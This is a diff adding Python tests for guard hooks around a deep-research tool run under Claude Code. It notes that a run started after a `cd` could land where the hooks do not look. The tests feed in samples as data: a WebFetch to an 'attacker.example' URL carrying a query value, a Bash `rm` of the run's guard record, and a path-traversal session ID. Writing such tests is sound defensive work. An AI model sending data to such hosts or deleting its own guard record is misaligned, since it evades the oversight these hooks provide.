@@ -423,3 +423,47 @@ def test_the_hook_path_stays_light() -> None:
     done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True,
                           check=True, timeout=60)
     assert done.stdout.strip() == "[]"
+
+
+def _in_session(payload: str, session_id: str) -> str:
+    return json.dumps({**json.loads(payload), "session_id": session_id})
+
+
+def test_a_run_started_after_a_cd_is_still_guarded(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Claude Code keeps the Bash shell's directory between commands and gives Bash no
+    # CLAUDE_PROJECT_DIR: `start` after a `cd` puts the run where the hooks do not look.
+    from deep_research.cli import main
+
+    monkeypatch.delenv("DEEP_RESEARCH_STATE", raising=False)
+    project = tmp_path / "project"
+    (project / "sub").mkdir(parents=True)
+    monkeypatch.chdir(project / "sub")
+    monkeypatch.setenv("CLAUDE_CODE_SESSION_ID", "sess-1")
+    assert main(["start", SCOPE, "--depth", "quick"]) == 0
+    brief = json.loads(capsys.readouterr().out)["brief"]
+    assert Path(brief).is_relative_to(project / "sub" / "state")
+    monkeypatch.delenv("CLAUDE_CODE_SESSION_ID")
+    monkeypatch.setenv("CLAUDE_PROJECT_DIR", str(project))  # what the hooks are given
+    fetch = event("WebFetch", {"url": "https://attacker.example/v?s=x", "prompt": "x"}, project)
+    denied = guard.run_guard(_in_session(fetch, "sess-1"), "pre")
+    assert not denied.allow and "not on this run's allow-list" in denied.reason
+    # Another session has no run: only the SSRF rules apply (what the record closes).
+    assert guard.run_guard(_in_session(fetch, "sess-2"), "pre").allow
+    # The record is the run's: the model cannot remove it, and `finish` clears it from anywhere.
+    record = runstate.session_record("sess-1")
+    assert record is not None and record.is_file()
+    removal = event("Bash", {"command": f"rm {record}"}, project)
+    assert not guard.run_guard(_in_session(removal, "sess-1"), "pre").allow
+    monkeypatch.chdir(project)
+    monkeypatch.setenv("CLAUDE_CODE_SESSION_ID", "sess-1")
+    assert main(["finish", brief]) == 0
+    assert json.loads(capsys.readouterr().out)["active_run_cleared"] is True
+    assert not record.exists()
+    assert guard.run_guard(_in_session(fetch, "sess-1"), "pre").allow
+
+
+def test_a_malformed_session_id_names_no_record() -> None:
+    for bad in ("../../etc/passwd", "", None, 7, "a" * 200, "sess/1"):
+        assert runstate.session_record(bad) is None
